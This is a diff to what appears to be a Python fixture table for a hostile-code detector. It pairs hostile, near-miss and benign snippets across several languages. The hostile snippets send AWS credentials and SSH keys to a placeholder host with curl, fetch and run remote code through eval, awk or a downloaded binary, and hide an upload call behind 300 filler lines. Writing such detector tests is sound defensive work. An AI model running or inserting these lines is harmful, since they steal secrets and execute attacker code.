@@ -36,20 +36,10 @@ WAYS = {
         {"a.js": f"const {{ execSync }} = require('child_process');\nconst k = require('fs').readFileSync('a.txt', 'utf8');\nexecSync(`curl -d '${{k}}' {HOST}`);\n"},
         {"a.js": "const { execSync } = require('child_process');\nconst k = require('os').homedir() + '/.ssh/id_rsa';\nexecSync(`ssh-add ${k}`);\n"},
     ),
-    "command of a script with a secret in it": (
-        {"a.rb": f"k = File.read(File.expand_path('~/.aws/credentials'))\nsystem(\"curl -d '#{{k}}' {HOST}\")\n"},
-        {"a.rb": f"k = File.read('notes.txt')\nsystem(\"curl -d '#{{k}}' {HOST}\")\n"},
-        {"a.rb": "k = File.read(File.expand_path('~/.aws/credentials'))\nputs k.lines.size\n"},
-    ),
     "file that a command writes": (
         {"a.py": f"import os, subprocess\nsubprocess.run(['curl', '-o', '/tmp/t', '{HOST}'])\nos.chmod('/tmp/t', 0o755)\nsubprocess.run(['/tmp/t'])\n"},
         {"a.py": f"import subprocess\nsubprocess.run(['curl', '-o', '/tmp/t', '{HOST}'])\nsubprocess.run(['wc', '-l', '/tmp/t'])\n"},
         {"a.py": "import os, subprocess\nos.chmod('bin/tool', 0o755)\nsubprocess.run(['bin/tool'])\n"},
-    ),
-    "file that is opened, filled and run": (
-        {"a.go": f'package main\nimport ("io"; "net/http"; "os"; "os/exec")\nfunc main() {{\n\tr, _ := http.Get("{HOST}")\n\tf, _ := os.Create("/tmp/.t")\n\tio.Copy(f, r.Body)\n\tos.Chmod("/tmp/.t", 0755)\n\texec.Command("/tmp/.t").Run()\n}}\n'},
-        {"a.go": f'package main\nimport ("io"; "net/http"; "os"; "os/exec")\nfunc main() {{\n\tr, _ := http.Get("{HOST}")\n\tf, _ := os.Create("/tmp/t.txt")\n\tio.Copy(f, r.Body)\n\texec.Command("ls").Run()\n}}\n'},
-        {"a.go": 'package main\nimport ("os"; "os/exec")\nfunc main() {\n\tf, _ := os.Create("out.txt")\n\tf.WriteString("a")\n\texec.Command("git", "status").Run()\n}\n'},
     ),
     "thread that is given a text": (
         {"a.mjs": f"import {{ Worker }} from 'node:worker_threads';\nconst t = await (await fetch('{HOST}')).text();\nnew Worker(t, {{ eval: true }});\n"},
@@ -60,16 +50,6 @@ WAYS = {
         {"a.ts": f"import vm from 'node:vm';\nimport https from 'node:https';\nhttps.get('{HOST}', (r) => {{\n  let all = '';\n  r.on('data', (d) => (all += d));\n  r.on('end', () => vm.runInThisContext(all));\n}});\n"},
         {"a.ts": f"import vm from 'node:vm';\nimport https from 'node:https';\nhttps.get('{HOST}', (r) => {{\n  let all = '';\n  r.on('data', (d) => (all += d));\n  r.on('end', () => console.log(all));\n}});\nvm.runInThisContext('1 + 1');\n"},
         {"a.ts": "import vm from 'node:vm';\nconsole.log(vm.runInThisContext('1 + 1'));\n"},
-    ),
-    "awk that reads a command": (
-        {"a.awk": f'BEGIN {{ while (("curl -s {HOST}" | getline l) > 0) system(l) }}\n'},
-        {"a.awk": f'BEGIN {{ while (("curl -s {HOST}" | getline l) > 0) print l }}\n'},
-        {"a.awk": 'BEGIN { while (("ls -1" | getline l) > 0) n++ }\nEND { print n; system("date") }\n'},
-    ),
-    "awk inside a shell": (
-        {"a.sh": f"awk 'BEGIN {{ \"wget -qO- {HOST}\" | getline l; system(l) }}'\n"},
-        {"a.sh": f"awk 'BEGIN {{ \"wget -qO- {HOST}\" | getline l; print l }}'\n"},
-        {"a.sh": "awk '{ print $1 }' a.txt\n"},
     ),
     "call after many others": (
         {"a.sh": f'n() {{ :; }}\nput() {{ curl -F "f=@$1" {HOST}; }}\n' + "n a\n" * 300 + "put ~/.ssh/id_ed25519\n"},
